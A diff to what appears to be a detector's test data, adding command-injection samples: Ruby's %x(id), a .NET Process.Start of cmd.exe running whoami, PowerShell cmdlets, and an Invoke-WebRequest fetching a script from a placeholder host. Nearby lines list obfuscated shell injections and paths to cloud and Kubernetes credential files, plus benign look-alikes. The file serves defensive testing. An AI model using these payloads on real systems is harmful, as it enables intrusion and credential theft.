@@ -73,6 +73,10 @@ POSITIVE = [
     (CMDI, "x=$'id';$x"),  # bash ANSI-C quoting
     (CMDI, "c${u}at /tmp/x"),  # an unset variable inside a word
     (CMDI, "@^p^o^w^e^r^shell c:\\x"),  # cmd.exe caret escapes
+    (CMDI, "#{%x(id)}"),  # Ruby's command literal
+    (CMDI, '@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))'),  # .NET
+    (CMDI, ";Get-ChildItem C:\\"),  # PowerShell cmdlets
+    (CMDI, "Invoke-WebRequest https://x.test/a.ps1"),
     (TRAVERSAL, "/home/u/.aws/credentials"),  # cloud and cluster credentials
     (TRAVERSAL, "~/.kube/config"),
     (TRAVERSAL, "/etc/kubernetes/admin.conf"),
@@ -131,6 +135,8 @@ BENIGN = [
     "the child_process module", "ProcessBuilder and Runtime.exec", "it's $'s and cents",
     "x^2 + y^2 = r^2", "a^b^c", "@team please review", "cat < 3 years old",
     "see ~/.aws for details", "the .kube directory", "Hello ${name}s", "user${id}abc",
+    'printf("%x(%d)", a, b)', "Get-Started guide", "get-content is a cmdlet",
+    "(get-content reads a file)", "Start-Process is how", "process.start() is called",
 ]
 
 
